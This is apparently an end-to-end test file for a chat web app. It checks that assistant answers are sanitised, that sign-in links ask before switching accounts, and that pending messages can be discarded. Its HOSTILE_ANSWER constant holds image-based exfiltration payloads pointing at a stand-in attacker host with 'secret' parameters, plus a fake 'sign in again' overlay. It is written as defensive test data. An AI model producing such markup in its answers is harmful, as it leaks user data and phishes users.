"""The web app's defences: answers that cannot fetch or fake UI, sign-in links that ask before
switching accounts, and outbox entries the user can give up on."""

from __future__ import annotations

import subprocess
import sys
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.e2e.conftest import DESKTOP
from tests.e2e.pages import CONNECTED, echoed_answer, open_app, send_from_page, wait_messages
from tests.support.server import ServerProcess

ATTACKER = "attacker.invalid"

HOSTILE_ANSWER = (
    f"![x](http://{ATTACKER}/md.png?secret=1) "
    f'<img src="http://{ATTACKER}/img.png?secret=2"> '
    f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="http://{ATTACKER}/set.png 2x"> '
    f'<img src="//{ATTACKER}/scheme-relative.png"> '
    f'<table background="http://{ATTACKER}/bg.png"><tr><td>t</td></tr></table> '
    '<div class="signin" style="position:fixed;inset:0" id="signin" data-testid="switch-account">'
    "Session expired, sign in again</div> "
    f'<svg><image href="http://{ATTACKER}/svg.png"></image></svg> '
    "```js\ncode\n```"
)

# What the markdown of the last assistant message holds, after rendering and sanitising: every
# element below the renderer's own block containers (.md-done's runs, .md-open), which carry
# its class.
READ_ANSWER = """() => {
  const bodies = [...document.querySelectorAll('[data-testid=message][data-role=assistant] .body')];
  const body = bodies[bodies.length - 1];
  const all = [...body.querySelectorAll('.md-done > .md-run *, .md-open *')];
  return {
    images: [...body.querySelectorAll('img')].map(i => i.getAttribute('src')),
    srcsets: all.filter(e => e.hasAttribute('srcset')).length,
    classes: all.filter(e => e.hasAttribute('class')).map(e => e.tagName + '.' + e.className),
    styled: all.filter(e => e.hasAttribute('style') || e.hasAttribute('id')
                            || e.hasAttribute('background')).length,
    data: all.filter(e => Object.keys(e.dataset).length).length,
    links: [...body.querySelectorAll('a.remote-image')].map(a => a.getAttribute('href')),
    svg: body.querySelectorAll('svg').length,
  };
}"""


async def test_answers_fetch_nothing_and_cannot_restyle_the_page(
    browser: Any, server: ServerProcess
) -> None:
    context, page, requested = await echoed_answer(browser, server.url, HOSTILE_ANSWER, DESKTOP)
    answer = await page.evaluate(READ_ANSWER)
    assert answer["images"] == ["data:image/gif;base64,R0lGODlhAQABAAAAACw="], answer
    assert answer["srcsets"] == 0 and answer["styled"] == 0 and answer["data"] == 0, answer
    assert answer["svg"] == 0, answer
    assert set(answer["classes"]) == {"A.remote-image"}, answer  # only the app's own link
    assert f"http://{ATTACKER}/md.png?secret=1" in answer["links"]  # a click still gets it
    assert f"http://{ATTACKER}/img.png?secret=2" in answer["links"]
    assert await page.locator("[data-testid=switch-account]").is_hidden()
    assert not [url for url in requested if ATTACKER in url], requested
    await context.close()


def new_token(data_dir: Path, name: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "tether", "token", "create", name, "--data-dir", str(data_dir)],
        capture_output=True, text=True, timeout=60, check=True,
    )
    return done.stdout.strip().splitlines()[-1]


async def test_a_sign_in_link_asks_before_switching_accounts(
    browser: Any, servers: Callable[..., ServerProcess], tmp_path: Path
) -> None:
    data = tmp_path / "server0"  # the data dir `servers` gives its first server
    alice, mallory = new_token(data, "alice"), new_token(data, "mallory")
    server = servers()
    context = await browser.new_context(viewport=DESKTOP)
    page = await context.new_page()
    user = page.locator("[data-testid=signed-in-user]")
    dialog = page.locator("[data-testid=switch-account]")

    await page.goto(f"{server.url}/?token={alice}", timeout=15_000)  # first sign-in: no question
    await page.wait_for_selector(CONNECTED, timeout=15_000)
    await user.wait_for(state="visible", timeout=5_000)
    assert await user.text_content() == "alice"
    assert await dialog.is_hidden()
    assert "token=" not in page.url

    await page.goto(f"{server.url}/?token={mallory}", timeout=15_000)  # someone else's link
    await dialog.wait_for(state="visible", timeout=5_000)
    await page.wait_for_selector(CONNECTED, timeout=15_000)
    await page.wait_for_function(
        "() => document.querySelector('#switch-current').textContent === 'alice'", timeout=5_000
    )
    assert await user.text_content() == "alice"  # still alice while the question is open
    await page.locator("[data-testid=switch-account-cancel]").click()
    assert await dialog.is_hidden()
    await page.reload()
    await page.wait_for_selector(CONNECTED, timeout=15_000)
    await user.wait_for(state="visible", timeout=5_000)
    assert await user.text_content() == "alice"  # declining kept alice's token

    await page.goto(f"{server.url}/?token={mallory}", timeout=15_000)
    await page.locator("[data-testid=switch-account-confirm]").click()
    await page.wait_for_function(
        "() => document.querySelector('[data-testid=signed-in-user]').textContent === 'mallory'",
        timeout=10_000,
    )
    await context.close()


async def test_a_pending_message_can_be_discarded(
    browser: Any, server: ServerProcess, other: Any
) -> None:
    device = await other(server.url)
    session_id = await device.new_session(title="Discard")
    context = await browser.new_context(viewport=DESKTOP)
    page = await context.new_page()
    await open_app(page, server.url, session_id)

    await context.set_offline(True)
    await page.wait_for_selector(
        "[data-testid=connection-status]:not([data-state=connected])", timeout=10_000
    )
    given_up = f"never mind {uuid.uuid4().hex[:6]}"
    await send_from_page(page, given_up)
    await wait_messages(page, f"ms.some(m => m.status === 'pending' && m.text === {given_up!r})", 5)
    await page.locator("[data-testid=message][data-status=pending] [data-testid=message-discard]"
                       ).click()
    await wait_messages(page, f"!ms.some(m => m.text === {given_up!r})", 5)
    await context.set_offline(False)
    await page.wait_for_selector(CONNECTED, timeout=15_000)

    # A message the server refuses (a lone surrogate: `invalid`) fails instead of blocking.
    await page.evaluate(
        "() => { const box = document.querySelector('[data-testid=composer-input]');"
        " box.value = 'half an emoji \\ud83d'; }"
    )
    await page.locator("[data-testid=composer-input]").press("Enter")
    await wait_messages(page, "ms.some(m => m.status === 'failed')", 10)
    after = f"after {uuid.uuid4().hex[:6]}"
    await send_from_page(page, after)
    await wait_messages(
        page, f"ms.some(m => m.role === 'user' && m.status === 'complete' && m.text === {after!r})"
    )
    await page.locator("[data-testid=message][data-status=failed] [data-testid=message-discard]"
                       ).click()
    await wait_messages(page, "!ms.some(m => m.status === 'failed')", 5)
    await page.reload()
    await page.wait_for_selector(CONNECTED, timeout=15_000)
    stored = await device.ok("subscribe", {"session_id": session_id, "limit": 200})
    contents = [m["content"] for m in stored["messages"] if m["role"] == "user"]
    assert contents == [after]
    await wait_messages(page, f"ms.some(m => m.text === {after!r})", 10)
    assert not await page.locator("[data-testid=message][data-status=failed]").count()
    await context.close()
